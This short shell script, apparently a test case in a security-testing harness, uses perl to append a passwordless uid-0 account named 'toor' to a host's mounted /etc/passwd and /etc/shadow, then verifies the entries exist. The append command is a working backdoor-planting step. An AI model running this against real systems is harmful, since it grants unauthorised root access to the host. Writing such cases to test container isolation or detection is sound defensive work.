#!/bin/sh
. /opt/case/case.sh

perl -e 'for (["passwd", "toor:x:0:0::/:/bin/sh\n"], ["shadow", "toor::19700:0:99999:7:::\n"]) { open my $f, ">>", "/host/etc/$_->[0]" or die; print $f $_->[1] }'
grep -q toor /host/etc/passwd && grep -q toor /host/etc/shadow
took_place
